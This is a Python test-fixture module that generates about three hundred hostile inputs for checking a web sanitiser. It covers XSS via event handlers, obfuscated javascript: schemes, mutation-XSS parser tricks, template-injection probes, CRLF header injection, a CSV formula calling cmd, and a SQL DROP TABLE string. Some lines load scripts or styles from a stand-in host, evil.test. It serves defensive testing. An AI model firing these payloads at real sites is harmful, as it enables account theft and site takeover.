"""Three hundred texts of somebody who wants more than a paragraph, most of them made from
tables: what they would run says so in `window.__ran`, and asks for attention."""

RUN = "window.__ran=1;alert(1)"
ELSEWHERE = "//evil.test/x"

# An element that does something by itself, and the handler it would do it with.
BY_THEMSELVES = (
    *("img src=x onerror", "img src onerror", "image src=x onerror", "svg onload"),
    *("body onload", "body onpageshow", "body onhashchange", "frameset onload"),
    *("input autofocus onfocus", "select autofocus onfocus", "a autofocus href=# onfocus"),
    *("textarea autofocus onfocus", "button autofocus onfocus", "p tabindex=0 onfocus"),
    *("keygen autofocus onfocus", "details open ontoggle", "dialog open onclose"),
    *("video src=x onerror", "video autoplay onloadstart", "audio src=x onerror"),
    *("audio autoplay onplay", "source src=x onerror", "track src=x onerror"),
    *(
        "object data=x onerror",
        "embed src=x onload",
        "iframe onload",
        "iframe src=x onload",
    ),
    *("link rel=stylesheet href=x onerror", "style onload", "script src=x onerror"),
    *("marquee onstart", "marquee loop=1 width=0 onfinish", "bgsound src=x onerror"),
    *("svg><animate onbegin", "svg><set onbegin", "svg><image href=x onerror"),
    *("math><mtext onclick", "isindex type=image src=1 onerror", "portal src=x onload"),
    *("p onpointerrawupdate", "p contenteditable onbeforeinput", "p popover ontoggle"),
    *("form onformdata", "meter onwheel", "output onscrollend", "ul onauxclick"),
    *("li oncopy", "blockquote onpaste", "ol ondragstart", "em onanimationstart"),
    *("strong ontransitionend", "br onclick", "a href=https://ok.test onclick"),
    *("x onclick", "x-y onmouseover", "menu onshow", "slot onslotchange"),
)
# Ways to say javascript: that some reader of addresses or other has believed.
SCRIPTS = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "\njavascript:"),
    *("java\tscript:", "java\nscript:", "java\rscript:", "\x01javascript:"),
    *("\x1fjavascript:", "\u00a0javascript:", "\u200bjavascript:", "\ufeffjavascript:"),
    *("java\u00adscript:", "&#106;avascript:", "&#x6a;avascript:", "&#0000106avascript:"),
    *("javascript&colon;", "javascript&#58;", "java&Tab;script:", "java&NewLine;script:"),
    *("&#x09;javascript:", "javascript\u2028:", "jav\u0430script:", "javascript&#x3A;"),
    *("javascript://ok.test/%0a", "javascript:/*--></title></style>*/", "livescript:"),
    *("feed:javascript:", "view-source:javascript:", "jar:javascript:", "vbscript:"),
    *("mocha:", "data:text/javascript,", "data:text/html,<script>", "blob:javascript:"),
    *("intent:javascript:", "//javascript:", "\\javascript:", "./javascript:"),
)
# Elements that take an address, and where.
ADDRESSES = (
    *("a href", "iframe src", "frame src", "embed src", "object data", "img src"),
    *("form action", "button formaction", "input type=image src", "link href", "base href"),
    *("area href", "body background", "table background", "video poster", "img srcset"),
    *("svg><a xlink:href", "svg><use href", "svg><script href", "svg><image href"),
    *("math><mi href", "math><maction xlink:href", "q cite", "blockquote cite", "ins cite"),
    *("html manifest", "meta http-equiv=refresh content", "img longdesc", "p style"),
    *("svg><animate attributeName=href to", "portal src", "bgsound src", "a ping"),
)
# What is read otherwise the second time: one parser's text is another's element.
READ_TWICE = (
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    "<math><mtext><table><mglyph><style><!--</style><p title='-->"
    "<img src=x onerror={run}>'>",
    '<math><mtext><table><mglyph><style><![CDATA[</style><p title="]]>'
    '<img src=x onerror={run}>">',
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    '<svg><style><img src="</style><img src=x onerror={run}>">',
    "<math><annotation-xml encoding=text/html><style></annotation-xml>"
    "<img src=x onerror={run}>",
    "<svg><foreignObject><p><style><img src='</style><img src=x onerror={run}>'>",
    "<svg><desc><noscript><img src='</noscript><img src=x onerror={run}>'>",
    "<svg><title><style><img src='</title><img src=x onerror={run}>'>",
    "<template><style></template><img src=x onerror={run}></style>",
    "<select><template><style><!--</style></template><img src=x onerror={run}>",
    "<table><tbody><a><svg><tr></a><img src=x onerror={run}>",
    "<textarea><p id='</textarea><img src=x onerror={run}>'>",
    "<title><p id='</title><img src=x onerror={run}>'>",
    "<xmp><p id='</xmp><img src=x onerror={run}>'>",
    "<noembed><p id='</noembed><img src=x onerror={run}>'>",
    "<noframes><p id='</noframes><img src=x onerror={run}>'>",
    "<iframe><p id='</iframe><img src=x onerror={run}>'></iframe>",
    "<plaintext><img src=x onerror={run}>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<!--<img src='--><img src=x onerror={run}>'>",
    "<!-- --!><img src=x onerror={run}> -->",
    "<!--><img src=x onerror={run}>-->",
    "<!---><img src=x onerror={run}>-->",
    "<?xml <img src=x onerror={run}> ?>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={run}>'>]>&y;",
    "<p><svg><style>*{}</p><img src=x onerror={run}></style>",
    "<ruby><rtc><svg><style><rp><img src=x onerror={run}></style>",
    "<a><table><a><img src=x onerror={run}></table></a>",
    "<b><style></b><img src=x onerror={run}></style>",
    "<math><mi><style><p></mi><img src=x onerror={run}></style>",
    "<svg><p><style><g title='</style><img src=x onerror={run}>'>",
    "<dialog><dl><dt><template><script>{run}</script></template></dialog>",
    "</p></div></article></main></body></html><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "--></script><script>{run}</script>",
)
# Broken on purpose, as a lenient reader would mend them.
BROKEN = (
    "<script>{run}</script>",
    "<script>{run}",
    "<SCRIPT\n>{run}</SCRIPT\t>",
    "<script/x>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<script src={elsewhere}></script>",
    "<script type=module>import '{elsewhere}'</script>",
    "<script\x0c>{run}</script>",
    "<\x00script>{run}</script>",
    "<img/src=x/onerror={run}>",
    '<img src="x" onerror="{run}"',
    "<img src=x onerror\n=\n{run}>",
    "<img src=x onerror\x0b={run}>",
    "<img src='x'onerror='{run}'>",
    '<img """><script>{run}</script>">',
    "<img src=`x` onerror=`{run}`>",
    '<p title="</p><img src=x onerror={run}>">x</p>',
    '<a title="><img src=x onerror={run}>" href=https://ok.test>x</a>',
    "<a href='https://ok.test/\"onmouseover=\"{run}'>x</a>",
    "<a href=https://ok.test/`onmouseover={run}>x</a>",
    '<a href="https://ok.test/\'><img src=x onerror={run}>">x</a>',
    '" autofocus onfocus="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    "` autofocus onfocus=`{run}` x=`",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u2039script\u203a{run}\u2039/script\u203a",
    "<\u017fcript>{run}</\u017fcript>",
    "<scr\u0131pt>{run}</scr\u0131pt>",
    "<img src=x \u200bonerror={run}>",
    '<a href="\u202egnp.exe\u202c">x</a>',
)
# What frameworks, ours among them, would take for theirs.
FOR_MACHINES = (
    '<p hx-get="/c/1/me" hx-trigger=load>x</p>',
    '<p data-hx-get="/c/1/me" data-hx-trigger=load>x</p>',
    '<p hx-on:click="{run}">x</p>',
    '<p hx-on::load="{run}" hx-trigger="load">x</p>',
    '<p hx-vals="js:{a: {run}}" hx-post=/x hx-trigger=load>x</p>',
    '<p hx-swap-oob="true" id="problem">x</p>',
    "<button form=act formaction=/c/1/chair name=on value=1>x</button>",
    "<input form=act name=on value=1>",
    "<form id=act action={elsewhere}><input name=form_key></form>",
    '<p data-editor data-draft=x data-html="<img src=x onerror={run}>">x</p>',
    '<textarea data-editor data-html="<img src=x onerror={run}>"></textarea>',
    "<p popovertarget=mine popover id=mine>x</p>",
    '<p id=main class="dialog btn" role=alert>x</p>',
    "<a name=body id=cookie href=https://ok.test>x</a>",
    "<img name=getElementById src=x><img name=querySelector src=x>",
    "<form name=forms><input name=length></form>",
    "<object id=location data=x></object>",
    "{{ here.form_key }}",
    "{% include 'web/page.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "${{{run}}} #{{{run}}} <%= {run} %>",
    "{{constructor.constructor('{run}')()}}",
    "%(name)s %s %d %% %n",
    'msgid "x"\nmsgstr "<script>{run}</script>"',
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>{run}</script>",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE post; --",
    "<style>*{background:url({elsewhere})}</style>",
    "<style>@import '{elsewhere}';</style>",
    '<p style="background:url({elsewhere})">x</p>',
    '<p style="position:fixed;inset:0;z-index:9">x</p>',
    '<p style="x:expression({run})">x</p>',
    "<link rel=prefetch href={elsewhere}><link rel=preconnect href={elsewhere}>",
    '<meta http-equiv=refresh content="0;url={elsewhere}">',
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href={elsewhere}><base target=_top>",
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<iframe sandbox="allow-scripts" src={elsewhere}></iframe>',
    '<svg><style>@import "{elsewhere}";</style></svg>',
    '<img src={elsewhere}.gif><img srcset="{elsewhere} 2x">',
    "<picture><source srcset={elsewhere}><img></picture>",
)
# Addresses in plain text, which we turn into links ourselves.
ADDRESSED = (
    'https://ok.test/"onmouseover="{run}',
    "https://ok.test/'onmouseover='{run}",
    "https://ok.test/<img src=x onerror={run}>",
    "https://ok.test/&quot;onmouseover=&quot;{run}",
    "https://ok.test/?a=<script>{run}</script>",
    'https://ok.test"><script>{run}</script>',
    "http://javascript:{run}@ok.test/",
    "https://ok.test/javascript:{run}",
    "javascript://ok.test/%0a{run}",
    "JAVASCRIPT:https://ok.test/",
    "https://<b>ok</b>.test/",
    "https://ok.test/\u202egpj.exe",
    "https://\u043ek.test/",
    "https://ok.test/`{run}`",
    "https://ok.test/" + "%22" * 40,
)


def _filled(pattern: str) -> str:
    return pattern.replace("{run}", RUN).replace("{elsewhere}", ELSEWHERE)


def _made() -> list[str]:
    said = [f"<{start}={RUN}>x" for start in BY_THEMSELVES]
    said += [f'<a href="{scheme}{RUN}">x</a>' for scheme in SCRIPTS]
    said += [f'<{start}="javascript:{RUN}">x' for start in ADDRESSES]
    said += [f'<{start}="data:text/html,<script>{RUN}</script>">x' for start in ADDRESSES]
    said += [f"<svg><a xlink:href='{scheme}{RUN}'><text>x" for scheme in SCRIPTS[:16]]
    for patterns in (READ_TWICE, BROKEN, FOR_MACHINES, ADDRESSED):
        said += [_filled(pattern) for pattern in patterns]
    return said


HOSTILE = tuple(dict.fromkeys(_made()))


def packed(longest: int) -> list[str]:
    """All of them, as many to a text as go in, for what is not read as HTML."""
    texts = [""]
    for payload in HOSTILE:
        if len(texts[-1]) + len(payload) + 2 > longest:
            texts.append("")
        texts[-1] += f"{payload[: longest - 2]} | "
    return [text[:longest].strip() for text in texts if text.strip()]
